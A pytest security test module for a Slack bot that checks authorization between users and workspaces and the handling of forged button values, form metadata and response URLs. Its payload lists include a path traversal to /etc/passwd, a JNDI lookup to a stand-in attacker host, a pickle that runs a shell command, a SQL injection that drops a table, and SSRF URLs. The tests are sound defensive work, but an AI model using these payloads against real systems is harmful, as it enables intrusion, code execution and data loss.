"""What somebody may not do, tried with payloads made by hand: it is not done, and nothing of others is shown."""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
import pytest_asyncio

from bot.slack.browsing.place import Place
from bot.workspace.holding.cast import ALEX, LUCIA, SAM
from tests.attacks.journey import payloads, sort
from tests.attacks.target import Target

pytestmark = pytest.mark.asyncio(loop_scope="module")

Payload = dict[str, Any]
OTHER_TEAM = "T0EVIL00001"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def genuine(bot: Target) -> dict[str, tuple[str, Payload]]:
    """One of every payload that Slack sends, by what it is."""
    return {sort(kind, payload): (kind, payload) for kind, payload in await payloads(bot)}


async def attempt(bot: Target, seed: tuple[str, Payload], **changes: Any) -> tuple[int, list[str]]:
    """Sends a payload changed in these places (``a__b`` is ``b`` in ``a``); gives the status and what was said after it."""
    kind, payload = seed[0], copy.deepcopy(seed[1])
    for path, value in changes.items():
        *above, last = path.split("__")
        holder: Any = payload
        for key in above:
            holder = holder[int(key) if key.isdecimal() else key]
        holder[last] = value
    before = list(bot.workspace.record)[-1].number
    status, _ = await bot.send(kind, payload)
    await bot.quiet()
    said = [
        json.dumps(e.request, ensure_ascii=False) for e in bot.workspace.record if e.number > before and e.kind != "delivery"
    ]
    return status, said


# --- where the bot listens


@pytest.mark.parametrize("wanted", ["here on", "here off", "here confident-only", "HERE ON", " here\u00a0on"])
@pytest.mark.parametrize("who", [ALEX.id, LUCIA.id, "U0NOBODY001", "USLACKBOT"])
async def test_who_is_no_curator_changes_nothing(wanted: str, who: str, bot: Target, genuine: dict[str, Any]) -> None:
    records = bot.desk.store.of(bot.workspace.state.team.id)
    await records.set_listening("C0LOCAL0001", "confident-only")
    changes = {"text": wanted, "user_id": who, "trigger_id": f"t.{wanted}.{who}".replace(" ", "").replace("\u00a0", "")}
    await attempt(bot, genuine["slash_commands /directory"], **changes)
    assert await records.listening("C0LOCAL0001") == "confident-only"


@pytest.mark.parametrize(
    "who", ["", "*", f"{SAM.id} ", f"{SAM.id},{ALEX.id}", SAM.id.lower(), [SAM.id], None, "<@U0SAM000002>"]
)
async def test_nobody_becomes_a_curator_by_writing_their_id_otherwise(
    who: Any, bot: Target, genuine: dict[str, Any]
) -> None:
    records = bot.desk.store.of(bot.workspace.state.team.id)
    await records.set_listening("C0LOCAL0001", "off")
    await attempt(bot, genuine["slash_commands /directory"], text="here on", user_id=who, trigger_id=f"w.{hash(str(who))}")
    assert await records.listening("C0LOCAL0001") == "off"


async def test_a_name_in_the_payload_makes_no_curator(bot: Target, genuine: dict[str, Any]) -> None:
    records = bot.desk.store.of(bot.workspace.state.team.id)
    await records.set_listening("C0LOCAL0001", "off")
    seed = genuine["slash_commands /directory"]
    await attempt(bot, seed, text="here on", user_name="sam", user=SAM.id, enterprise_id=SAM.id, trigger_id="n.1")
    assert await records.listening("C0LOCAL0001") == "off"


async def test_what_a_curator_sets_holds_in_their_own_workspace_alone(bot: Target, genuine: dict[str, Any]) -> None:
    other = bot.desk.store.of(OTHER_TEAM)
    seed = genuine["slash_commands /directory"]
    await attempt(bot, seed, text="here on", user_id=SAM.id, channel_id="C0LOCAL0001", trigger_id="s.1")
    assert await bot.desk.store.of(bot.workspace.state.team.id).listening("C0LOCAL0001") == "on"
    assert await other.listening("C0LOCAL0001") == "off"


# --- what is others'


async def test_pins_of_another_workspace_are_never_shown(bot: Target, genuine: dict[str, Any]) -> None:
    other = bot.desk.store.of(OTHER_TEAM)
    await other.pin(ALEX.id, "hall/maps")
    _, said = await attempt(bot, genuine["events_api event_callback app_home_opened home"], event_id="Ev-pins")
    assert said and not any("Map Hall" in text for text in said)


async def test_a_press_that_claims_another_workspace_leaves_this_one_as_it_is(bot: Target, genuine: dict[str, Any]) -> None:
    own = bot.desk.store.of(bot.workspace.state.team.id)
    before = await own.pins(ALEX.id)
    value = Place("house", entry="house/canal").value()
    seed = genuine["interactive block_actions pin:on view"]
    await attempt(bot, seed, actions__0__value=value, view__app_installed_team_id=OTHER_TEAM, team__id=OTHER_TEAM)
    assert await own.pins(ALEX.id) == before


async def test_a_vote_counts_for_who_pressed_and_for_nobody_else(bot: Target, genuine: dict[str, Any]) -> None:
    seed = genuine["interactive block_actions vote message"]
    value = '-{"e":"hall/whale","a":["\\u0000"],"u":"U0SAM000002","person":"U0SAM000002"}'
    await attempt(bot, seed, actions__0__value=value, user__id=LUCIA.id)
    votes = bot.desk.store.of(bot.workspace.state.team.id).votes  # type: ignore[attr-defined]
    assert (LUCIA.id, "hall/whale", "") in votes and (SAM.id, "hall/whale", "") not in votes


# --- what a button or a form carries

KINDS = ["gone-since", "__class__", "house\n", "\u202e"]


@pytest.mark.parametrize("kind", KINDS)
async def test_a_search_within_a_kind_that_is_not_there_looks_everywhere(
    kind: str, bot: Target, genuine: dict[str, Any]
) -> None:
    for typed in ("harb", "house phone"):  # the beginning of a name, and what has to be understood
        form, payload = genuine["interactive block_suggestion search view"]
        changed = {"value": typed, "view": payload["view"] | {"private_metadata": kind}}
        status, text = await bot.send(form, payload | changed)
        assert status == 200 and json.loads(text)["options"], typed


POINTERS: dict[str, Any] = {
    "an entry that is not there": '{"e":"../../etc/passwd"}',
    "a name of Python's": '{"e":"__class__"}',
    "an entry and a question": '{"e":"house/harbour","q":"x"}',
    "neither": "{}",
    "a list": '["house/harbour"]',
    "wrong types": '{"e":{"$gt":""}}',
    "attributes of another type": '{"e":"house/harbour","a":[{"x":1}]}',
    "a page before the first": '{"q":"list of houses","p":-1}',
    "a page beyond all": '{"q":"list of houses","p":1000000000000}',
    "a page that is true": '{"q":"list of houses","p":true}',
    "longer than Slack allows": '{"q":"' + "x" * 3000 + '"}',
    "100,000 brackets": "[" * 100_000,
    "not a number": '{"e":"house/harbour","p":NaN}',
    "half": '{"e":"house/harb',
    "a template": "${jndi:ldap://evil.example/x}",
    "a pickle": "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIHB3bpSFlFKULg==",
    "SQL": '{"e":"x\' OR 1=1; DROP TABLE votes; --"}',
    "nothing": "",
    "none": None,
}
"""What no button of the bot's carries."""


@pytest.mark.parametrize("what", POINTERS)
@pytest.mark.parametrize("button", ["more", "copy", "save", "report", "vote", "share_to"])
async def test_a_forged_pointer_leads_nowhere(button: str, what: str, bot: Target, genuine: dict[str, Any]) -> None:
    seed = genuine[f"interactive block_actions {button} message"]
    status, said = await attempt(bot, seed, actions__0__value=POINTERS[what], trigger_id=f"p.{button}.{hash(what)}")
    assert status == 200
    files = [file.name for file in bot.workspace.files.values()]
    assert not [name for name in files if "passwd" in name]
    assert not any("root:" in text for text in said)
    if "harbour" not in str(POINTERS[what]) and "list of" not in str(POINTERS[what]) and "xxx" not in str(POINTERS[what]):
        told = ("no longer", "leads nowhere", "went wrong")
        assert any(words in text for text in said for words in told), "whoever pressed is told"


@pytest.mark.parametrize("what", POINTERS)
async def test_a_form_with_forged_metadata_reports_nothing(what: str, bot: Target, genuine: dict[str, Any]) -> None:
    records = bot.desk.store.of(bot.workspace.state.team.id)
    before = len(records.reports)  # type: ignore[attr-defined]
    seed = genuine["interactive view_submission report"]
    status, _ = await attempt(bot, seed, view__private_metadata=POINTERS[what], view__id=f"V{abs(hash(what))}")
    assert status == 200
    kept = records.reports[before:]  # type: ignore[attr-defined]
    assert not [report for report in kept if report.entry not in bot.desk.directory.entries]


async def test_a_report_is_of_an_attribute_that_there_is(bot: Target, genuine: dict[str, Any]) -> None:
    records = bot.desk.store.of(bot.workspace.state.team.id)
    chosen = {"view__state__values__which__which__selected_option__value": "\x00<!channel>#0"}
    await attempt(bot, genuine["interactive view_submission report"], view__id="V0ATTRIBUTE", **chosen)
    assert records.reports[-1].attribute == ""  # type: ignore[attr-defined]


async def test_a_form_is_shared_only_where_slack_says(bot: Target, genuine: dict[str, Any]) -> None:
    seed = genuine["interactive view_submission share_to"]
    for ways in (
        [],
        [{"response_url": "file:///etc/passwd"}],
        [{"response_url": "gopher://127.0.0.1"}],
        [{}],
        "http://evil",
    ):
        status, said = await attempt(bot, seed, response_urls=ways, view__id=f"V{abs(hash(str(ways)))}")
        assert status in (200, 400)
        assert not any('"response_type": "in_channel"' in text for text in said)


PLACES = [
    '{"kind":"__class__"}',
    '{"page":-5}',
    '{"page":1e400}',
    '{"entry":["x"]}',
    "[" * 50_000,
    '{"region":{}}',
    "{}",
    "null",
]


@pytest.mark.parametrize("value", PLACES, ids=lambda value: value[:30])
async def test_a_forged_place_leads_to_a_page_that_there_is(value: str, bot: Target, genuine: dict[str, Any]) -> None:
    seed = genuine["interactive block_actions home:go:house view"]
    status, said = await attempt(bot, seed, actions__0__value=value, trigger_id=f"h.{hash(value)}")
    assert status == 200
    assert any('"type": "home"' in text or "went wrong" in text for text in said)
